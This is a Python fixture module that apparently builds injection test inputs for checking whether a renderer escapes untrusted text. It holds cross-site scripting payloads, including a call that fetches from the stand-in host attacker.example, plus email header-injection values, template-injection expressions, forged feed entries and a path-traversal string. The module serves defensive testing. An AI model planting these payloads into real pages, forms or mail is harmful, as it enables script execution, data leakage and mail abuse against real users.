"""Inputs that try to act: scripts, handlers, addresses, headers, templates, markup.

Whatever acts leaves a trace that a browser can be asked for: it sets `window.acted`,
opens a dialog, or asks `attacker.example` for something.
"""

import json

ATTACKER = "attacker.example"
CALL = f"window.acted=1;alert(1);fetch('//{ATTACKER}/x')"
PRODUCT = ("{{ 7919 * 7907 }}", str(7919 * 7907))  # a template's sum, and its result

TEXTS = (
    f"<script>{CALL}</script>",
    f"</title></style></textarea></script><script>{CALL}</script>",
    f'<img src=x onerror="{CALL}"><svg/onload="{CALL}">',
    f'\'" autofocus onfocus="{CALL}" tabindex=1 x=\'',
    f'<iframe srcdoc="&lt;script&gt;{CALL}&lt;/script&gt;"></iframe>',
    f'<a href="javascript:{CALL}">read</a> [read](javascript:{CALL})',
    f'<meta http-equiv=refresh content="0;url=//{ATTACKER}/">',
    f"<base href=//{ATTACKER}/><form action=//{ATTACKER}/><button>go</button></form>",
    f"<style>@import '//{ATTACKER}/x';</style><link rel=stylesheet href=//{ATTACKER}/>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{CALL}">',
    f'<!--><img src=x onerror="{CALL}">--><![endif]--><![CDATA[<script>{CALL}</script>',
    f"&lt;script&gt;{CALL}&lt;/script&gt; &#60;img src=x onerror={CALL}&#62;",
    f"\u202e\u2066<script>{CALL}</script>\u2028\u2029\x00\x07\ufeff",
    f"{PRODUCT[0]} {{% raw %}} ${{7919*7907}} <%= 7919*7907 %> #{{7919*7907}}",
    "x\r\nBcc: eve@attacker.example\r\nSubject: mine\r\n\r\n<b>body</b>",
    "=?utf-8?q?x=0D=0ABcc:_eve=40attacker.example?= =?utf-8?b?PHNjcmlwdD4=?=",
    "x\u0085Bcc: eve@attacker.example\u2028X-Evil: 1\x0bX-More: 1",
    "]]></description><item><title>forged</title></item>",
    "</content></entry><entry><id>forged</id>",
)
LIVE = (TEXTS[0], TEXTS[2])  # a browser acts on these when they stand in a page as is
URLS = (
    f"javascript:{CALL}",
    f" \tjAvA\nscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}",
    f'https://ok.example/" onmouseover="{CALL}',
    f"https://ok.example/'><script>{CALL}</script>",
    "https://user:secret@ok.example/?a=1&b=2#\r\nBcc: eve@attacker.example",
    "//attacker.example/x",
    "mailto:eve@attacker.example?bcc=all@attacker.example",
    "https://[::1",
)
NAMES = (
    "Ada\r\nBcc: eve@attacker.example",
    '"><script>alert(1)</script>',
    "=?utf-8?q?x=0ABcc:_eve=40attacker.example?=",
    "Ada, Eve <eve@attacker.example>, " + "Ada " * 30,
)


def documents() -> dict[str, list[str]]:
    """Put every text in every place of a document, in three formats, by suffix."""
    return {
        ".json": [json.dumps(_document(n, text)) for n, text in enumerate(TEXTS)],
        ".html": [f"<title>{t}</title><h1>{t}</h1>{t}{_PLAIN}" for t in TEXTS],
        ".md": [f"# Mill {n} {t}\n\n{t}\n\n{_PLAIN}" for n, t in enumerate(TEXTS)],
    }


def _document(number: int, text: str) -> dict[str, object]:
    word = _WORDS[number % len(_WORDS)]
    plain = f"The {word} of parish {number} closed its {word} gate on day {number}."
    return {
        "title": f"{word} {text}",
        "body": f"{plain}\n\n{text} said the {word} keeper. {plain} {text}",
        "bullets": [f"{text} {word}", f"{word} keepers met {text}."],
        "topics": [text, f"{word}/../../{text}", "../" * 9 + "etc"],
        "source": text,
        "url": URLS[number % len(URLS)],
        "language": "en",
    }


_PLAIN = "The miller closed the weir at noon. Nobody downstream was told of it."
_WORDS = (
    *("orchard", "quarry", "foundry", "tannery", "cannery", "brewery", "smithy"),
    *("vineyard", "laundry", "bakery", "pottery", "abbey", "chapel", "armoury"),
    *("granary", "dairy", "sawmill", "shipyard", "observatory"),
)
